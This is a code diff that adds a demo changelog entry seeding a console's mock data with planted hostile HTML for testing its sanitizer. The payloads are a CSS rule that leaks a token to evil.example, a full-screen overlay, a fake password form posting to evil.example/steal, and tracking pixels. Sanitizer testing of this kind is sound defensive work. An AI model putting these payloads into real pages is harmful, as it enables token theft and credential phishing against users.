@@ -43,6 +43,28 @@ const integrations = () =>
           update_time: '2026-05-02 09:30:00',
           log: '### Changed\n- Moved to `/gamebridge/v2`.\n- Send the token in the `Authorization` header.\n\n```http\nPOST /gamebridge/v2/ssp_publisher/report\nAuthorization: <token>\n```',
         },
+        {
+          log_id: 9,
+          version: 'v1.9.0',
+          update_time: '2026-01-12 09:00:00',
+          // Hostile server HTML planted in the demo data: the console's sanitizer must leave none
+          // of it working (no style read of the token, no form, no overlay, no outside image).
+          log: [
+            '### Security',
+            'This entry carries planted hostile HTML that the console renders harmless. [Jump to the fixes](#fixed)',
+            '',
+            '<style>input[value^="ak_"]{background-image:url(https://evil.example/leak?token=ak_)} .ant-layout{display:none}</style>',
+            '',
+            '<div style="position:fixed;inset:0;z-index:99999;background:#c00;color:#fff;font-size:40px">Planted overlay</div>',
+            '',
+            '<form action="https://evil.example/steal" method="post"><input type="password" name="password" placeholder="Password"><button>Sign in</button></form>',
+            '',
+            'Pixels: ![tracking pixel](https://evil.example/pixel.png) <img src="https://evil.example/raw.png" alt="raw pixel">',
+            '',
+            '### Fixed',
+            '- Report dates follow the chosen time zone.',
+          ].join('\n'),
+        },
       ],
     },
     {
